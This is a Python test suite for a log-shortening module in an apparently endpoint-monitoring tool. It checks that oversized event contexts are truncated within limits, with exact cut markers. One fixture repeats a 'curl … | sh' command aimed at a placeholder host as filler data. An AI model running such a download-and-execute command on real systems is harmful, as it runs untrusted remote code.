"""Shortening what agents send instead of refusing it (santamon/domain/shortening.py)."""

from __future__ import annotations

import re
from typing import Any

import orjson
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from santamon.domain.shortening import (
    SMALL_STRING_BYTES,
    SUMMARY_NOTE,
    cut_list,
    cut_text,
    encode_context,
    shorten_context,
)

LIMIT = 100_000
CUT = re.compile(r"…\[(\d+) bytes cut\]$")


def sm014_context(command_line: str) -> dict[str, Any]:
    """What the agent's rule SM-014 sends: the command line in execution.args and in the
    process tree's target."""
    argv = ["/bin/bash", "-c", command_line]
    return {
        "actor_path": "/bin/zsh", "target_path": "/bin/bash", "decision": "DECISION_ALLOW",
        "kind": "execution", "execution.args": argv,
        "process_tree": [
            {"relation": "target", "depth": 0, "pid": 4242, "pidversion": 3,
             "path": "/bin/bash", "user": "alice", "uid": 501, "group": "staff", "gid": 20,
             "session_id": 100, "start_time": "2026-11-03T14:22:05.5-08:00", "args": argv},
            {"relation": "parent", "depth": 1, "pid": 4100, "pidversion": 1, "path": "/bin/zsh",
             "user": "alice", "uid": 501, "group": "staff", "gid": 20, "session_id": 100,
             "start_time": "2026-11-03T09:00:00-08:00"},
        ],
    }


def original_of(cut: str, original: str) -> bool:
    """`cut` is the beginning of `original` and a marker naming exactly the bytes that went."""
    match = CUT.search(cut)
    if match is None:
        return False
    head = cut[:match.start()]
    return (original.startswith(head)
            and int(match.group(1)) == len(original.encode()) - len(head.encode()))


def test_the_sm014_shape_keeps_its_keys_tree_and_both_command_lines_cut_alike():
    command_line = "curl -s https://example.test/x | sh; " * 1622  # 60,000 bytes
    context = sm014_context(command_line[:60_000])
    assert len(encode_context(context)) > 120_000
    stored = orjson.loads(shorten_context(context, LIMIT))
    assert len(orjson.dumps(stored)) <= LIMIT
    assert stored.keys() == context.keys()
    args, tree_args = stored["execution.args"], stored["process_tree"][0]["args"]
    assert args[:2] == ["/bin/bash", "-c"] and tree_args == args
    assert original_of(args[2], command_line[:60_000])
    assert len(args[2]) > 40_000  # as little cut as fits: about half of each
    assert stored["process_tree"][1] == context["process_tree"][1]
    assert [node.keys() for node in stored["process_tree"]] == [
        node.keys() for node in context["process_tree"]]


def test_a_context_that_fits_is_returned_as_it_is():
    context = sm014_context("ls -la")
    assert shorten_context(context, LIMIT) == orjson.dumps(context)


def test_integers_beyond_64_bits_keep_their_digits():
    """Go writes float64 values of 2**64 and more as plain integers."""
    context = {"inode": 18446744073709552000, "n": -(2**63) - 1, "fits": 2**64 - 1}
    assert encode_context(context) == (b'{"inode":18446744073709552000,'
                                       b'"n":-9223372036854775809,"fits":18446744073709551615}')
    shortened = shorten_context({**context, "blob": "x" * 200_000}, LIMIT)
    assert shortened.startswith(b'{"inode":18446744073709552000,')


def test_many_small_items_are_cut_by_list_with_a_marker():
    context = {"kind": "execution", "execution.args": [f"file-{i}.txt" for i in range(50_000)]}
    stored = orjson.loads(shorten_context(context, LIMIT))
    args = stored["execution.args"]
    assert args[:3] == ["file-0.txt", "file-1.txt", "file-2.txt"]
    assert re.fullmatch(r"…\[(\d+) more items cut\]", args[-1])
    assert int(args[-1][2:].split()[0]) + len(args) - 1 == 50_000
    assert stored["kind"] == "execution"


def test_a_context_of_keys_alone_becomes_a_summary_that_fits():
    context = {f"key-{i}": i for i in range(20_000)}
    shortened = shorten_context(context, LIMIT)
    assert len(shortened) <= LIMIT
    stored = orjson.loads(shortened)
    assert stored["santamon_shortened"] == SUMMARY_NOTE
    assert stored["preview"].startswith('{"key-0":0,"key-1":1,')


def test_escaped_and_wide_characters_still_fit_and_are_never_split():
    context = {"controls": "\x01" * 40_000, "quotes": '"' * 40_000, "wide": "é€😀" * 10_000}
    shortened = shorten_context(context, LIMIT)
    assert len(shortened) <= LIMIT
    stored = orjson.loads(shortened)
    for key in context:
        assert original_of(stored[key], context[key]), key


def test_text_and_lists_are_cut_to_their_limit_with_a_marker():
    assert cut_text("short", 512) == "short"
    title = "é" * 600
    cut = cut_text(title, 512)
    assert 505 <= len(cut) <= 512 and original_of(cut, title)
    assert cut_list(["a", "b"], 50) == ["a", "b"]
    assert cut_list([str(i) for i in range(60)], 50) == [
        *[str(i) for i in range(49)], "…[11 more items cut]"]


# -- properties ------------------------------------------------------------------------------

text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
long_text = st.one_of(text, st.integers(0, 60_000).flatmap(
    lambda n: st.sampled_from("ax\"\\\x01é😀").map(lambda c: c * n)))
leaf = st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**64 - 1),
                 st.floats(allow_nan=False, allow_infinity=False), long_text)
value = st.recursive(leaf, lambda inner: st.one_of(
    st.lists(inner, max_size=6), st.dictionaries(text, inner, max_size=6)), max_leaves=30)
contexts = st.dictionaries(text, value, max_size=12)


def leaves(value: Any, path: tuple = ()) -> list[tuple[tuple, Any]]:
    """Every leaf with where it is: a path of keys and list positions."""
    if isinstance(value, dict):
        return [leaf for key, item in value.items() for leaf in leaves(item, (*path, key))]
    if isinstance(value, list):
        return [leaf for i, item in enumerate(value) for leaf in leaves(item, (*path, i))]
    return [(path, value)]


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(contexts, st.sampled_from([2_000, 20_000, LIMIT]))
def test_the_result_always_fits_and_is_always_the_same(context, limit):
    shortened = shorten_context(context, limit)
    assert len(shortened) <= limit
    assert shorten_context(context, limit) == shortened
    assert isinstance(orjson.loads(shortened), dict)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(contexts)
def test_keys_and_small_values_stay_and_the_longest_strings_go_first(context):
    """A context whose structure fits (these are small) keeps every key and list position;
    only strings change, each the beginning of its original plus an exact marker, and a string
    is cut only if every longer one is."""
    stored = orjson.loads(shorten_context(context, LIMIT))
    before, after = leaves(orjson.loads(encode_context(context))), leaves(stored)
    assert [path for path, _ in before] == [path for path, _ in after]
    cut_sizes, kept_sizes = [], []
    for (_, old), (_, new) in zip(before, after, strict=True):
        if isinstance(old, str) and new != old:
            assert original_of(new, old)
            cut_sizes.append(len(old.encode()))
        else:
            assert new == old
            if isinstance(old, str):
                kept_sizes.append(len(old.encode()))
    assert all(size > SMALL_STRING_BYTES for size in cut_sizes)
    if cut_sizes:
        assert min(cut_sizes) >= max(kept_sizes, default=0)
